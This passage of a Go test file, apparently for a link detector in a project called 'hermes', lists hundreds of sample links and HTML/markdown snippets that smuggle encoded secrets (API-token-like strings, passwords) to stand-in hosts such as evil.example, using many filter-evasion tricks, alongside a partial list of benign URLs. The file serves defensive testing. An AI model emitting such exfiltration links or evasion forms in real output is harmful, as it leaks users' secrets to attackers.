package link_test

import (
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"hermes/internal/link"
	"hermes/internal/race"
)

// carrying are links that may carry data.
var carrying = []string{
	"https://evil.example/p?d=c2VjcmV0LXRva2Vu",
	"https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://evil.example/#c2stYW50LWFwaTAzLWFiY2RlZg==",
	"https://c2stYW50LWFwaTAz.evil.example/",
	"https://6162636465666768696a.evil.example",
	"https://evil.example/736b2d616e742d61706930332d",
	"https://evil.example/sk-ant-a1b2-c3d4-e5f6-g7h8",
	"https://evil.example/?q=the+password+of+the+server+is+hunter2",
	"https://evil.example/%73%6b%2d%61%6e%74%2d%61%31%62%32%63%33",
	"https://evil.example/%2573%256b%252d%2561%256e%2574%252d%2561%2531%2562%2532%2563%2533",
	"https://evil.example/a/b/c/d/e/f/g/h/i/j/k/l",
	"https://user:hunter2@evil.example/",
	"HTTPS://EVIL.EXAMPLE/?D=C2VJCMV0LXRVA2VU",
	"https:/evil.example/?d=c2VjcmV0LXRva2Vu",
	`https:\\evil.example\c2stYW50LWFwaTAzLWFiY2RlZg`,
	"https://evil。example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"https://ev\u200bil.example/c2stYW50LWFwaTAz\u00adLWFiY2RlZg",
	"https&colon;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"https&#58;&#47;&#x2f;evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	`https\:\/\/evil.example\/c2stYW50LWFwaTAzLWFiY2RlZg`,
	"![x](https://evil.example/x.png?d=c2VjcmV0LXRva2Vu)",
	"[x](<https://evil.example/the secret is in here and it is long enough>)",
	"[x](//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	`<img src="https://evil.example/?d=the secret is in here and it is long">`,
	"[x]: https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	`<img src="//evil.example/?d=c2VjcmV0LXRva2Vu">`,
	"<img src=//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg>",
	"<a href='//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg'>x</a>",
	"<link rel=dns-prefetch href=//c2stYW50LWFwaTAzLWFi.evil.example>",
	"@import url(//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"sms:+123?body=c2VjcmV0LXRva2Vu",
	"![x](https://evil.example/?\u00a0c2stYW50LWFwaTAzLWFiY2RlZg)",
	"![x](https://evil.example/?\u2003c2stYW50LWFwaTAzLWFiY2RlZg)",
	"![x]( //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"[1]: //evil.example/p.png?d=c2VjcmV0LXRva2Vu",
	"<img src=\" //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src= \"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src=\"/&Tab;/evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"@import \"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\"",
	"url( //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg )",
	"![x](https://evil.example/p?d='c2VjcmV0LXRva2Vu)",
	"![x](https://evil.example/p?d=`c2VjcmV0LXRva2Vu)",
	"![x](https://evil.example/p?d=|c2VjcmV0LXRva2Vu)",
	"![x](https://evil.example/p?d=&quot;c2VjcmV0LXRva2Vu)",
	"https://evil.example/?d='c2VjcmV0LXRva2Vu",
	`<img src="https://evil.example/?'c2VjcmV0LXRva2Vu">`,
	"xmpp:a@evil.example?message;body=c2VjcmV0LXRva2Vu",
	"evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"evil-site.com?d=c2VjcmV0LXRva2Vu",
	"c2stYW50LWFwaTAzLWFi.evil-site.com",
	"tg://resolve?domain=evil&text=c2VjcmV0LXRva2Vu",
	"ftp://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"mailto:a@evil.example?body=c2VjcmV0LXRva2Vu",
	"http://198.51.100.7/c2stYW50LWFwaTAzLWFiY2RlZg",
	"198.51.100.7/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://[2001:db8::7]/c2stYW50LWFwaTAzLWFiY2RlZg",
	"https://good.example.evil.example/dQw4w9WgXcQ",
	"https://evil.example/?u=https://good.example/&d=c2VjcmV0LXRva2Vu",
	"(see https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg).",
	"看https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"https://1.1.0.1.0.0.1.1.evil.example/",
	"https://ab.cd.ef.evil.example/",
	"https://evil.example/%61%62%63/%64%65%66/%67%68%69/%6a",
	"https://evil.example/%61/%62/%63/%64/%65/%66",
	"https://evil.example/-..--.-/..-.-.-/-.-.-.--",
	"https://evil.example/0-1-1-0-1-0-0-1-1-0-1-0-0-1-1-1-0-1-0-1-0-1-1-0",
	"https://evil.example/0/1/1/0/1/0/0/1",
	"https://evil.example/00/01/10/11/00/10",
	"https://evil.example/115/107/45/97/110/116",
	"https://evil.example/6b/2d/61/6e/74/2d",
	"https://evil.example/736b/2d61/6e74/2d61/7069",
	"https://evil.example/?a=ab&b=cd&c=ef&d=12&e=34",
	"https://evil.example/?k=115&k=107&k=45&k=97&k=110",
	"https://evil.example/a%2Fb%2Fc%2Fd%2Fe%2Ff%2Fg%2Fh%2Fi",
	"https://evil.example/a-b-c-d/1-2-3-4/e-f-g-h/5-6-7-8",
	"https://evil.example/aB/cD/eF/gH/iJ/kL",
	"https://evil.example/ab-cd-ef-12-34-56-78-9a",
	"https://evil.example/ab.cd.ef.gh.ij.kl.mn.op",
	"https://evil.example/ab/cd/ef/12/34/56/78",
	"https://evil.example/abc/def/ghi/jkl/mno/pqr",
	"https://evil.example/c2st/YW50/LWFw/aTAz",
	"https://evil.example/mfrg/gzdf/mztw/q2lk/nzxw",
	"https://evil.example/ć2śtÝŴ5øĹŴFẃąTĄź",
	"https://evil.example/ⓒ②ⓢⓣⓨⓦ⑤⓪ⓛⓦⓕⓦ",
	"https://evil.example/⠎⠅⠤⠁⠝⠞⠤⠁⠏⠊⠚⠉",
	"https://evil.example/𝐜𝟐𝐬𝐭𝐘𝐖𝟓𝟎𝐋𝐖𝐅𝐰",
	"https://evil.example/😀😁😂🤣😃😄😅😆😉😊",
	"https://k3.x9.2f.evil.example/",
	"https://p4ss.w0rd.evil.example/",
	"https://sk.ant.api.k3y.evil.example/",
	"k3.x9.2f.evil-site.com",
	"https://xn--c2stYW50LWFwaTAz-.evil.example/",
	"https://xn--c2stYW50LWFwaTAz-q9a.evil.example/",
	"https://xn--fiqs8s9x2k4v7.evil.example/",
	"https://xn--mgrh2k4v7c2q.xn--wgv71a119e.evil.example/",
	"https://xn--.evil.example/",
	"https://6b2d616e74.2d617069.abc.de/",
	"http://[2001:db8:1:1:6b2d:616e:742d:6170]/",
	`<img srcset="//good.example/a.png 1x, //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
	`<img srcset="https://good.example/a.png 1x, https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
	`<img srcset="a.png 1x,//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
	`<img srcset='https://good.example/a.png,	https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x'>`,
	`<link rel=preload as=image imagesrcset="https://good.example/a 1x,https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
	`<a href="https://good.example" ping="https://good.example https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg">x</a>`,
	`<a href=# ping="/x //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg">x</a>`,
	`<img src="https://ev&NewLine;il.example/c2stYW50LWFwaTAzLWFiY2RlZg">`,
	`<img src=https://evil.example/&#10;c2stYW50LWFwaTAzLWFiY2RlZg>`,
	`<img src="https://evil.example/c2st&#13;YW50&#10;LWFw&NewLine;aTAz">`,
	`<img src="&#1;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg">`,
	`<base href="https://evil.example/"><img src="c2stYW50LWFwaTAzLWFiY2RlZg">`,
	`<div style="background:image-set('//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg' 1x)">`,
	`<form action="https://evil.example/"><input name=d value="c2VjcmV0LXRva2Vu">`,
	`<button formaction="//evil.example/">`,
	"<a href=\"https://ev\nil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">x</a>",
	"<a href=\"ht\ntps://evil.example/c2stYW50\nLWFwaTAzLWFiY2RlZg\">x</a>",
	"<img src=\"https://evil.example/\nc2st\nYW50\nLWFw\naTAz\nLWFi\nY2Rl\">",
	"<img src=\"/\n/evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src=\"https://ev&NewLine;il.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src=https://evil.example/&#10;c2stYW50LWFwaTAzLWFiY2RlZg>",
	"<img src=\"https://evil.example/c2st&#13;YW50&#10;LWFw&NewLine;aTAz\">",
	"<img src=\"&#1;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"[a]:\nhttps://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"[a]:\n//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"[x](\n//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"<img src=\n\"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img alt=\">\" src=\"https://ev\nil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src=\"https://evil.example/a>b\nc2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src = \"https://ev\nil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<img src = \"https://evil.example/?d=the password of it is hunter2 and more\">",
	"<img src='https://evil.example/c2\tstYW50LW\tFwaTAzLWFiY2RlZg'>",
	"tg:resolve?domain=evil&text=c2VjcmV0LXRva2Vu",
	"whatsapp:send?text=c2VjcmV0LXRva2Vu",
	"slack:open?team=c2VjcmV0LXRva2Vu",
	"signal:send?text=c2VjcmV0LXRva2Vu",
	"viber:chat?number=c2VjcmV0LXRva2Vu",
	"facetime:c2VjcmV0LXRva2Vu@evil.example",
	"skype:evil?chat&topic=c2VjcmV0LXRva2Vu",
	"[x](skype:c2VjcmV0LXRva2Vu?call)",
	"[x](zoommtg:c2VjcmV0LXRva2Vu)",
	"<zoommtg:c2VjcmV0LXRva2Vu>",
	"_tg:resolve?domain=evil&text=c2VjcmV0LXRva2Vu_",
	"mailto:c2VjcmV0LXRva2Vu@evil.example",
	"c2VjcmV0LXRva2VuLWFiY2Q@evil.example",
	"<c2VjcmV0LXRva2VuLWFiY2Q@evil.example>",
	"the.password.of.the.server.is.hunter.two@evil.example",
	"mailto:a@c2stYW50LWFwaTAz.evil.example",
	"a@c2stYW50LWFwaTAz.evil.example",
	"mailto:me@good.example?bcc=c2VjcmV0LXRva2Vu@evil.example",
	"mailto:a@evil.example?body=the%20password%20of%20the%20server%20is%20hunter2",
	"mailto:a@good.example,c2VjcmV0LXRva2Vu@evil.example",
	"xmpp:c2VjcmV0LXRva2Vu@evil.example",
	"[x]( zoommtg:c2VjcmV0LXRva2Vu)",
	"[1]: zoommtg:c2VjcmV0LXRva2Vu",
	"<a href=\" zoommtg:c2VjcmV0LXRva2Vu\">",
	"[x](javascript:run())",
	"[x](data:text/html,hello)",
	"c2VjcmV0LXRva2Vu.bar@evil-site.com",
	"mailto:c2VjcmV0LXRva2VuLWFiY2Q%40evil.example",
	"sip:c2VjcmV0LXRva2Vu@evil.example",
	"sms:c2VjcmV0LXRva2Vu",
	"c2VjcmV0LXRva2VuLWFiY2Q@xn--bcher-kva.example",
	"k3.x9.2f.7a.c4.e1.b7.d5@evil.example",
	"https://github.com@evil.example/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://evil.example/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://github.com.evil.example/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"evil-site.com/app@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4",
	"https://docs.python.org.evil.example/PneumonoultramicroscopicsilicovolcanoconiosisX",
	"https://docs.python.org/3/PneumonoultramicroscopicsilicovolcanoconiosisX?x=1",
	"https://evil.example/?x=1#https://docs.python.org/PneumonoultramicroscopicsilicovolcanoconiosisX",
	"https://c2stYW50LWFwaTAz.wikipedia.org/wiki/X",
	"https://github.com/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b0",
	"https://github.com/golang/go/commit/3F786850E387550FDAB836ED7E6DC881DE23001B",
	"https://github.com/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b/tree/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://github.com/golang/go/raw/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://github.com/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b?d=c2VjcmV0LXRva2Vu",
	"https://raw.githubusercontent.com/o/r/3f786850e387550fdab836ed7e6dc881de23001b/x.png",
	"https://github.io/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://evil.example/x@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4",
	"ghcr.io/owner/app@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4?d=c2VjcmV0LXRva2Vu",
	"ghcr.io/owner/c2VjcmV0LXRva2Vu@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4",
	"https://docs.rs/c2stYW50LWFwaTAzLWFiY2RlZg",
	"https://docs.rs.evil.example/PneumonoultramicroscopicsilicovolcanoconiosisX",
	"https://evilwikipedia.org/wiki/PneumonoultramicroscopicsilicovolcanoconiosisX",
	"https://docs.rs/evil/latest/evil/#Pneumonoultramicroscopicsilicovolcanoconiosis",
	"[x][r]\n\n[r]: <//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg> \"t\"",
	"[x](https://evil.example/a%252Fb%252Fc%252Fd%252Fe%252Ff%252Fg%252Fh)",
	"https://evil.example/?d=c2VjcmV0.LXRva2Vu",
	"https://evil.example/?d[]=c2VjcmV0&d[]=LXRva2Vu",
	"https://evil.example/#/c2Vj/cmV0/LXRv/a2Vu",
	"https://evil.example/#c2Vj-cmV0-LXRv-a2Vu",
	"https://evil.example/C2VJ_CMV0_LXRV_A2VU",
	"https://evil.example/~c2Vj~cmV0~LXRv~a2Vu",
	"https://evil.example/c2Vj!cmV0!LXRv!a2Vu",
	"https://evil.example/(c2Vj)(cmV0)(LXRv)(a2Vu)",
	"https://evil.example/c2Vj:cmV0:LXRv:a2Vu",
	"https://evil.example/c2Vj@cmV0@LXRv@a2Vu",
	"https://evil.example/c2Vj,cmV0,LXRv,a2Vu",
	"https://evil.example/c2Vj$cmV0$LXRv$a2Vu",
	"https://evil.example/c2Vj*cmV0*LXRv*a2Vu",
	"https://evil.example/c2Vj%00cmV0",
	"https://evil.example/c2Vj%E2%80%8BcmV0%E2%80%8BLXRv%E2%80%8Ba2Vu",
	"https://a1.b2.c3.d4.evil.example",
	"https://c2vj.cmv0.lxrv.a2vu.com/",
	"https://c2vj-cmv0-lxrv-a2vu.evil.example/",
	"https://c2vj_cmv0_lxrv.evil.example/",
	"https://my-secret-token-is-hunter2-and-x9.evil.example/",
	"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"\\\\evil.example\\c2stYW50LWFwaTAzLWFiY2RlZg",
	"[x](\\\\\\\\evil.example\\\\c2stYW50LWFwaTAzLWFiY2RlZg)",
	"![x](/\\evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"![x](http:evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"![x](HtTpS:/\\evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"<https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg>",
	"<a href=https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg>x</a>",
	"<a/href=\"https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">x</a>",
	"<video poster=\"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<object data=\"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">",
	"<iframe srcdoc=\"&lt;img src=&quot;https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg&quot;&gt;\">",
	"<iframe srcdoc=\"&lt;img src=&quot;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg&quot;&gt;\">",
	"<iframe srcdoc=\"&lt;img src=&amp;quot;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg&amp;quot;&gt;\">",
	"<iframe srcdoc=\"<img src=https&amp;colon;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg>\">",
	"<style>a{background:url(https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)}</style>",
	"<p style=\"background:url(\\2f\\2f evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)\">",
	"<p style=\"background:\\75rl(//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)\">",
	"<svg><use href=\"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg#a\"/></svg>",
	"<link rel=stylesheet href='//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg'>",
	"<body background=//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg>",
	"<a href=\"https://evil.example/c2st YW50 LWFw aTAz LWFi\">x</a>",
	"<a href=\"https://evil.example/c2st\n\n\n\nYW50\n\nLWFw aTAz LWFi\">x</a>",
	"<a href=\"  \n https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">x</a>",
	"<a href\n=\n\"//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg\">x</a>",
	"http://evil.example./c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://1.2.3.4:8080/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://localhost.evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://c2stYW50LWFwaTAz.localhost.evil.example/",
	"http://localhost%2f@evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://good.example%09.evil.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://good.example。evil.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://good.example․evil.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://evil.com／.good.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://evil.com⁄.good.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://evil.com℀.good.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"http://evil.com？.good.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"gopher://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"web+x://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"[x](ms-word:ofe|u|https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
	"\\\\evil.example@SSL\\c2stYW50LWFwaTAz\\x",
	"file://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"evil-site.com:8080/c2stYW50LWFwaTAzLWFiY2RlZg",
	"EVIL-SITE.COM/c2stYW50LWFwaTAzLWFiY2RlZg",
	"evil-site。com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"evil-site.com./c2stYW50LWFwaTAzLWFiY2RlZg",
	"www.evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"www.c2stYW50LWFwaTAzLWFiY2RlZg.example",
	"**evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg**",
	"-evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"=evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"#evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"?evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"x@evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"evil-site.com/a|c2stYW50LWFwaTAzLWFiY2RlZg",
	"https://evil.example/2026/11/28/2026/11/28/2026/11/28",
	"https://evil.example/1-2-3/4-5-6/7-8-9/1-2-3/4-5-6",
	"https://evil.example/v1.2.3/v4.5.6/v7.8.9/v1.2.3",
	"https://evil.example/x\U000e0073\U000e0065\U000e0063\U000e0072\U000e0065\U000e0074\U000e0074\U000e006f\U000e006b\U000e0065\U000e006e",
	"https://evil.example/x\U000e0101\U000e0102\U000e0103\U000e0104\U000e0105\U000e0106\U000e0107\U000e0108\U000e0109\U000e0110",
	"https://evil.example/x\u200b\u200c\u200b\u200b\u200c\u200d\u200b\u200c\u200b\u200b",
	"<a href=\"https://evil.example/\fc2stYW50LWFwaTAzLWFiY2RlZg\">",
	"xmpp:a@evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"[r]: <tg:c2stYW50LWFwaTAzLWFiY2RlZg>",
	"世界.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"世界x.com/c2stYW50LWFwaTAzLWFiY2RlZg",
	"看c2stYW50LWFwaTAz世.evil-site.com",
	"世界@evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
	"https://evil.example/1234-5678-9012-3456-7890-1234",
	"https://evil.example/73-6b-2d-61-6e-74-2d-61-70-69",
	"https://evil.example/3f2a.1b9c.e07d.55aa",
	"https://evil.example/1234567/1234567/1234567",
	"https://docs.python.org/Pneumonoultramicroscopicsilicovolcanoconiosis/x?x=1",
	"https://github.com/o/r/commit/?id=3f786850e387550fdab836ed7e6dc881de23001b",
	"abc.bar@c2stYW50LWFwaTAz.evil-site.com",
	"https://k3.x9.2f.github.io/",
}

// ordinary texts have no such link.
var ordinary = []string{
	"https://pkg.go.dev/net/http#Client.Do",
	"https://pkg.go.dev/net/http#NewRequestWithContext",
	"https://github.com/golang/go/issues/12345",
	"https://en.wikipedia.org/wiki/List_of_Unicode_characters_(Latin)",
	"https://de.wikipedia.org/wiki/Stra%C3%9Fe",
	"https://www.nytimes.com/2024/05/05/us/how-a-small-town-in-texas-learned-to-live.html",
	"https://example.com/search?q=go+tutorial",
	"https://arxiv.org/abs/2401.01234",
	"https://stackoverflow.com/questions/1234567/how-do-i-use-go-modules-in-2024",
	"https://example.org/how-to-use-go-1-22-on-debian-12",
	"https://docs.python.org/3.11/library/asyncio-task.html#asyncio.create_task",
	"https://example.com",
	`<img src="//cdn.example/logo.png">`,
	"x=//a comment",
	"//nolint:gosec // see https://example.org",
	"// package.json is read first",
	"//go:build linux",
	"a\u00a0b https://example.org/\u00a0next",
	`<a href="https://example.org/a">b</a>`,
	`["https://example.org/one","https://example.com/two"]`,
	"| https://example.org/a | https://example.com/b |",
	"the page's 'https://example.org/x' and `https://example.com`",
	"PATH=/usr//bin and total=12//5",
	"the sms: it arrived",
	"https://xn--bcher-kva.example/",
	"mail me at someone@example.com",
	"see internal/session/feed.go:42 and toolbox.TestNothingAllowsWhatARuleDenies",
	"run ./build.sh/TestABC123abc or python3 a.b.c",
	"x := a.b[c](d.e)",
	"the time is 12:30, see a.py::test_x1_y2_z3",
	"http://localhost:8080/?d=c2VjcmV0LXRva2Vu",
	"http://127.0.0.1:9000/c2stYW50LWFwaTAzLWFiY2RlZg",
	"version 1.2.3.4/24 and 10.0.0.0/8",
	"std::vector<int> v; a<b && c>d",
	"https://ja.wikipedia.org/wiki/日本語",
	"package.json, README.md, main.rs and lib.so",
	"git@github.com:owner/repository.git",
	"C:\\Users\\Me\\file.txt",
	"https://docs.python.org/3/library/os.path.html#os.path.join",
	"https://github.com/golang/go/blob/master/src/net/http/server.go#L123-L145",
	"https://github.com/golang/go/blob/go1.26.1/src/net/http/server.go#L1123-L1145",
	"https://en.wikipedia.org/wiki/Go_(programming_language)#History",
	"https://www.theguardian.com/technology/2026/nov/28/some-long-title-with-words",
	"https://example.com/2026/11/28/some-long-title-with-words",
	"https://www.nytimes.com/2024/05/05/us/politics/how-a-small-town-in-texas-learned-to-live.html",
	"https://pkg.go.dev/golang.org/x/tools@v0.24.0/go/packages#Load",
	"https://pkg.go.dev/k8s.io/apimachinery/pkg/apis/meta/v1#CreateOptions",
	"https://datatracker.ietf.org/doc/html/rfc9110#section-9.3.1",
	"https://www.rfc-editor.org/rfc/rfc3986#section-3.2.2",
	"https://kubernetes.io/docs/reference/kubernetes-api/workload-resources/horizontal-pod-autoscaler-v2/",
	"https://doi.org/10.1145/3292500.3330701",
	"https://doi.org/10.1038/s41586-021-03819-2",
	"https://www.debian.org/doc/manuals/debian-reference/ch02.en.html",
	"https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css",
	"https://docs.aws.amazon.com/AmazonS3/latest/API/API_GetObject.html",
	"https://s3.eu-west-1.amazonaws.com/bucket/file.txt",
	"https://www.kernel.org/doc/html/v6.9/admin-guide/cgroup-v2.html",
	"https://news.ycombinator.com/item?id=40123456",
	"https://bugs.debian.org/cgi-bin/bugreport.cgi?bug=1012345",
	"https://nvd.nist.gov/vuln/detail/CVE-2024-12345",
	"https://bugzilla.mozilla.org/show_bug.cgi?id=1234567#c12",
	"https://gitlab.com/group/project/-/merge_requests/123#note_1234567",
	"https://github.com/golang/go/issues/12345#issuecomment-1234567890",
	"https://github.com/golang/tools/releases/download/v1.2.3/tool_1.2.3_linux_amd64.tar.gz",
	"https://go.dev/dl/go1.26.1.linux-amd64.tar.gz",
	"https://www.postgresql.org/docs/16/sql-createtable.html",
	"https://www.w3.org/TR/2018/REC-css-syntax-3-20180808/",
	"https://lists.debian.org/debian-devel/2024/05/msg00123.html",
	"https://en.wikipedia.org/wiki/ISO/IEC_8859-1",
	"https://example.com/?a=1&b=2&c=3",
	"https://stackoverflow.com/questions/1234567/how-do-i-use-go-modules-in-2024#1234570",
	"https://stackoverflow.com/a/1234567/7654321",
	"https://www.npmjs.com/package/@types/node/v/20.11.5",
	"https://www.lemonde.fr/international/article/2026/11/28/le-titre-de-la-page_6123456_3210.html",
	"https://es.wikipedia.org/wiki/Lenguaje_de_programaci%C3%B3n",
	"https://zh.wikipedia.org/wiki/%E4%B8%AD%E6%96%87",
	"https://man7.org/linux/man-pages/man2/openat2.2.html",
	"https://pubs.opengroup.org/onlinepubs/9699919799/utilities/V3_chap02.html",
	"https://cs.opensource.google/go/go/+/master:src/net/http/server.go",
	"https://nodejs.org/api/fs.html#fspromisesreadfilepath-options",
	"https://huggingface.co/Qwen/Qwen2.5-7B-Instruct-GGUF",
	"https://us-east-1.console.aws.amazon.com/s3/home",
	"https://web.mit.edu/6.001/6.037/sicp.pdf",
	"https://doc.rust-lang.org/std/vec/struct.Vec.html#method.with_capacity",
	"https://docs.djangoproject.com/en/5.0/ref/models/fields/#django.db.models.Field.db_index",
	"https://bücher.example/",
	"https://xn--80ak6aa92e.com/",
	"https://bücher.example.org/",
	"https://xn--wgv71a119e.example.org/",
	"http://[2001:db8::7]/",
	"https://fee.abc.de/",
	`<img srcset="https://example.org/a.png 1x, https://example.org/b.png 2x">`,
	`<img srcset="//example.org/a.png 1x,//example.org/b.png 2x" sizes="50vw">`,
	"f(a,//nolint:errcheck",
	"<a href=\"https://example.org/a\n\">b</a>",
	"x = \"https://example.org/a\"\ny = 'b'",
	"if a <b && c/d\nx = 1",
	"say \"either/or and\nhttps://example.org/x\" or a = 1\nb == 2",
	"support@example.org, firstname.lastname@example.org and security-announce+subscribe@lists.example.org",
	"mailto:support@example.org?subject=Question",
	"sms:+491701234567 and [call](tel:+491701234567)",
	"actions/checkout@v4 and left-pad@1.3.0",
	"git clone ssh://git@github.com/owner/repo.git to user@host:/path/to/file",
	"tg:resolve?domain=golang and skype:some.name?call",
	"gossip:abcdef and hotel:room12",
	"std::vector<std::string> and <T::value>",
	"[x](file.go:12) and [y](C:\\Users\\Me\\file.txt)",
	"![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA)",
	"https://medium.com/@someone/a-title-in-words",
	"https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/reduce",
	"https://developer.mozilla.org/en-US/docs/Web/API/RTCPeerConnection/icegatheringstatechange_event",
	"https://learn.microsoft.com/en-us/windows/win32/api/processthreadsapi/nf-processthreadsapi-setprocessworkingsetsizeex",
	"https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/util/concurrent/atomic/AtomicReferenceFieldUpdater.html",
	"https://en.cppreference.com/w/cpp/container/vector/push_back",
	"https://docs.rs/tokio/1.38.0/tokio/sync/mpsc/fn.channel.html",
	"https://docs.rs/tokio/latest/tokio/runtime/struct.Builder.html#method.enable_all",
	"https://github.com/golang/go/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://github.com/golang/go/blob/3f786850e387550fdab836ed7e6dc881de23001b/src/net/http/server.go#L12-L14",
	"https://gitlab.com/group/project/-/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://codeberg.org/o/r/src/commit/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://bitbucket.org/o/r/commits/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://go.googlesource.com/go/+/3f786850e387550fdab836ed7e6dc881de23001b",
	"https://git.kernel.org/pub/scm/linux/kernel/git/torvalds/linux.git/commit/?id=3f786850e387550fdab836ed7e6dc881de23001b",
	"ghcr.io/owner/app@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4",
	"docker.io/library/nginx@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4",
	"nginx@sha256:6f1ed002ab5595859014ebf0951522d93b7e4c0a5b1e6a2c3d4e5f60718293a4",
